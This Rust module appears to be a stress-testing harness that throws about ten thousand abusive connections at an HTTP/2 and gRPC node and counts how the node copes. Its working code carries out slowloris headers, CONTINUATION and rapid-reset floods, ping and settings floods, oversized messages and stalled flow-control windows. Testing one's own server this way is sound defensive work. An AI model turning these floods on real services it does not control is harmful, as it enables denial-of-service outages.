//! The kinds of abuse.

use std::collections::BTreeMap;
use std::io;
use std::net::{Ipv4Addr, SocketAddr};
use std::ops::AddAssign;
use std::sync::Arc;
use std::time::Duration;

use serde::{Deserialize, Serialize};
use tokio::io::{AsyncReadExt, AsyncWriteExt, split};
use tokio::sync::Semaphore;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};
use tokio_rustls::TlsConnector;
use tokio_util::sync::CancellationToken;
use tokio_util::task::TaskTracker;
use tokio_util::task::task_tracker::TaskTrackerToken;

use crate::component::{LONG, SHORT};
use crate::random::Random;
use crate::wire::{
    END_HEADERS, call, client_hello, connect, connector, frame, headers, hello, kind, mutated,
    shake,
};

/// What an attacker does with a connection.
#[derive(
    Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize, clap::ValueEnum,
)]
pub enum Kind {
    /// Nothing.
    Silent,
    /// Half of the first message of TLS.
    HalfOpen,
    /// Bytes of chance.
    Garbage,
    /// TLS, and then nothing.
    Shaken,
    /// HTTP/2, and no call.
    Idle,
    /// Headers, a byte at a time.
    SlowHeaders,
    /// Pings without an end.
    Pings,
    /// Settings without an end.
    Settings,
    /// Empty data without an end.
    EmptyData,
    /// Headers without an end.
    Continuations,
    /// Calls with headers that are too long.
    LongHeaders,
    /// Calls that are taken back at once.
    Resets,
    /// Calls beyond any limit.
    Calls,
    /// Messages that are too large.
    Large,
    /// Answers are asked for, and nothing is read.
    Unread,
    /// Answers are asked for, and never allowed to come.
    Stalled,
    /// What others say, with faults.
    Mutated,
}

/// All at once, and how many connections of each: ten thousand.
pub const ALL: &[(Kind, usize)] = &[
    (Kind::Silent, 2500),
    (Kind::HalfOpen, 2500),
    (Kind::Garbage, 2000),
    (Kind::Shaken, 500),
    (Kind::Idle, 1000),
    (Kind::SlowHeaders, 200),
    (Kind::Pings, 100),
    (Kind::Settings, 100),
    (Kind::EmptyData, 100),
    (Kind::Continuations, 100),
    (Kind::LongHeaders, 100),
    (Kind::Resets, 200),
    (Kind::Calls, 100),
    (Kind::Large, 100),
    (Kind::Unread, 100),
    (Kind::Stalled, 100),
    (Kind::Mutated, 200),
];

/// Addresses that attackers have: the first, and how many after it.
const SOURCE: Ipv4Addr = Ipv4Addr::new(127, 0, 1, 0);
const SOURCES: usize = 40;

/// How long connecting all may take.
const PATIENCE: Duration = Duration::from_secs(60);

/// Connections that a process makes at the same time.
const OPENING_MAX: usize = 64;

/// What became of connections.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Fate {
    /// They were made.
    pub opened: usize,
    /// The node ended them, or their handshake.
    pub ended: usize,
    /// They lasted to the end of the attack.
    pub held: usize,
}

impl AddAssign for Fate {
    fn add_assign(&mut self, other: Self) {
        self.opened += other.opened;
        self.ended += other.ended;
        self.held += other.held;
    }
}

/// By kind.
pub type Fates = BTreeMap<Kind, Fate>;

/// Which share of an attack a process has: the `index`th of `count`.
#[derive(Clone, Copy, Debug)]
pub struct Share {
    /// From 0.
    pub index: usize,
    /// All.
    pub count: usize,
}

/// Runs a share of an attack, for some time after every attacker has had a connection. Every
/// connection that the node ends is made anew, after a pause.
///
/// # Errors
/// When TLS cannot be set up.
pub async fn run(
    plan: &[(Kind, usize)],
    target: SocketAddr,
    share: Share,
    time: Duration,
) -> io::Result<Fates> {
    let tools = Arc::new(Tools {
        target,
        connector: connector()?,
        hello: client_hello()?,
        opening: Semaphore::new(OPENING_MAX),
        first: TaskTracker::new(),
        over: CancellationToken::new(),
    });
    let mut attackers = JoinSet::new();
    let mut number = 0;
    for (kind, count) in plan {
        for _ in 0..*count {
            number += 1;
            if number % share.count == share.index {
                let waiting = tools.first.token();
                attackers.spawn(attack(*kind, number, Arc::clone(&tools), waiting));
            }
        }
    }
    tools.first.close();
    // It shows when some had none.
    let _all_had_one = timeout(PATIENCE, tools.first.wait()).await;
    sleep(time).await;
    tools.over.cancel();
    let mut fates = Fates::new();
    while let Some(done) = attackers.join_next().await {
        let (kind, fate) = done.map_err(io::Error::other)?;
        *fates.entry(kind).or_default() += fate;
    }
    Ok(fates)
}

struct Tools {
    target: SocketAddr,
    connector: TlsConnector,
    hello: Vec<u8>,
    opening: Semaphore,
    /// What still waits for its first connection.
    first: TaskTracker,
    over: CancellationToken,
}

/// One attacker: a connection after the other.
async fn attack(
    kind: Kind,
    number: usize,
    tools: Arc<Tools>,
    waiting: TaskTrackerToken,
) -> (Kind, Fate) {
    let last = u8::try_from(number % SOURCES).unwrap_or(0);
    let [a, b, c, d] = SOURCE.octets();
    let source = Ipv4Addr::new(a, b, c, d + last);
    let mut random = Random::new(u64::try_from(number).unwrap_or(0));
    let mut fate = Fate::default();
    let mut first = Some(waiting);
    while !tools.over.is_cancelled() {
        let mut opened = 0;
        let one = once(kind, source, &tools, &mut random, || {
            opened = 1;
            first = None;
        });
        match tools.over.run_until_cancelled(one).await {
            Some(Ok(()) | Err(_)) => fate.ended += opened,
            None => fate.held += opened,
        }
        fate.opened += opened;
        sleep(Duration::from_millis(500)).await;
    }
    (kind, fate)
}

/// Returns when the node has ended the connection.
async fn once(
    kind: Kind,
    source: Ipv4Addr,
    tools: &Tools,
    random: &mut Random,
    opened: impl FnOnce(),
) -> io::Result<()> {
    let turn = tools.opening.acquire().await.map_err(io::Error::other)?;
    let mut stream = connect(source, tools.target).await?;
    opened();
    match kind {
        Kind::Silent => {
            drop(turn);
            return drain(&mut stream).await;
        }
        Kind::HalfOpen => {
            drop(turn);
            let half = tools.hello.len() / 2;
            stream
                .write_all(tools.hello.get(..half).unwrap_or_default())
                .await?;
            return drain(&mut stream).await;
        }
        Kind::Garbage => {
            drop(turn);
            let size = 1 + random.below(4000);
            stream.write_all(&random.bytes(size)).await?;
            return drain(&mut stream).await;
        }
        _ => {}
    }
    let stream = shake(&tools.connector, stream).await?;
    drop(turn);
    let (mut read, mut write) = split(stream);
    let say = async {
        speak(kind, &mut write, random).await?;
        std::future::pending::<io::Result<()>>().await
    };
    if kind == Kind::Unread {
        return say.await;
    }
    tokio::select! {
        said = say => said,
        heard = drain(&mut read) => heard,
    }
}

/// Reads until the other side ends.
async fn drain(stream: &mut (impl AsyncReadExt + Unpin)) -> io::Result<()> {
    let mut buffer = vec![0; 16 << 10];
    while stream.read(&mut buffer).await? > 0 {}
    Ok(())
}

async fn speak(
    kind: Kind,
    write: &mut (impl AsyncWriteExt + Unpin),
    random: &mut Random,
) -> io::Result<()> {
    let ping = frame(kind::PING, 0, 0, &[1; 8]);
    match kind {
        Kind::Shaken => Ok(()),
        Kind::Idle => write.write_all(&hello(65_535)).await,
        Kind::SlowHeaders => {
            write.write_all(&hello(65_535)).await?;
            let block = headers(SHORT.path, &[]);
            for byte in frame(kind::HEADERS, 0, 1, &block) {
                write.write_all(&[byte]).await?;
                write.flush().await?;
                sleep(Duration::from_secs(1)).await;
            }
            Ok(())
        }
        Kind::Pings => flood(write, |_| ping.clone()).await,
        Kind::Settings => flood(write, |_| frame(kind::SETTINGS, 0, 0, &[])).await,
        Kind::EmptyData => {
            write.write_all(&hello(65_535)).await?;
            let begin = frame(kind::HEADERS, END_HEADERS, 1, &headers(SHORT.path, &[]));
            write.write_all(&begin).await?;
            repeat(write, |_| frame(kind::DATA, 0, 1, &[])).await
        }
        Kind::Continuations => {
            write.write_all(&hello(65_535)).await?;
            let begin = frame(kind::HEADERS, 0, 1, &headers(SHORT.path, &[]));
            write.write_all(&begin).await?;
            // A header that is never the last.
            let more = [&[0x00, 1, b'a', 100][..], &[b'b'; 100]].concat();
            repeat(write, |_| frame(kind::CONTINUATION, 0, 1, &more)).await
        }
        Kind::LongHeaders => {
            let long = "x".repeat(15_000);
            let block = headers(SHORT.path, &[("long", &long), ("longer", &long)]);
            let (first, second) = block.split_at(16_000);
            flood(write, |number| {
                let stream = 2 * number + 1;
                let begin = frame(kind::HEADERS, 0, stream, first);
                let end = frame(kind::CONTINUATION, END_HEADERS, stream, second);
                [begin, end].concat()
            })
            .await
        }
        Kind::Resets => {
            flood(write, |number| {
                let stream = 2 * number + 1;
                let cancel = frame(kind::RESET, 0, stream, &[0, 0, 0, 8]);
                [call(stream, SHORT), cancel].concat()
            })
            .await
        }
        Kind::Calls => flood(write, |number| call(2 * number + 1, LONG)).await,
        Kind::Large => {
            write.write_all(&hello(65_535)).await?;
            for number in 0..100 {
                let stream = 2 * number + 1;
                let begin = headers("/machine.MachineService/ApplyConfiguration", &[]);
                let length = [0, 0xff, 0xff, 0xff, 0xff];
                let begin = frame(kind::HEADERS, END_HEADERS, stream, &begin);
                let data = frame(kind::DATA, 0, stream, &[&length[..], &[0; 1000]].concat());
                write.write_all(&[begin, data].concat()).await?;
                write.flush().await?;
                sleep(Duration::from_millis(50)).await;
            }
            Ok(())
        }
        // The window is as large as can be: it is the connection that takes nothing.
        Kind::Unread => {
            write.write_all(&hello(i32::MAX.unsigned_abs())).await?;
            let more = frame(kind::WINDOW, 0, 0, &0x7000_0000_u32.to_be_bytes());
            write.write_all(&more).await?;
            open_all(write).await
        }
        Kind::Stalled => {
            write.write_all(&hello(0)).await?;
            open_all(write).await
        }
        Kind::Mutated => write.write_all(&mutated(random)).await,
        Kind::Silent | Kind::HalfOpen | Kind::Garbage => Ok(()),
    }?;
    write.flush().await
}

/// As many calls as one connection may have.
async fn open_all(write: &mut (impl AsyncWriteExt + Unpin)) -> io::Result<()> {
    let calls = (0..128).map(|number| call(2 * number + 1, LONG));
    write.write_all(&calls.collect::<Vec<_>>().concat()).await
}

async fn flood(
    write: &mut (impl AsyncWriteExt + Unpin),
    next: impl FnMut(u32) -> Vec<u8>,
) -> io::Result<()> {
    write.write_all(&hello(65_535)).await?;
    repeat(write, next).await
}

/// As fast as it is taken.
async fn repeat(
    write: &mut (impl AsyncWriteExt + Unpin),
    mut next: impl FnMut(u32) -> Vec<u8>,
) -> io::Result<()> {
    for batch in 0.. {
        let several = (0..16).map(|number| next(16 * batch + number));
        write
            .write_all(&several.collect::<Vec<_>>().concat())
            .await?;
    }
    Ok(())
}
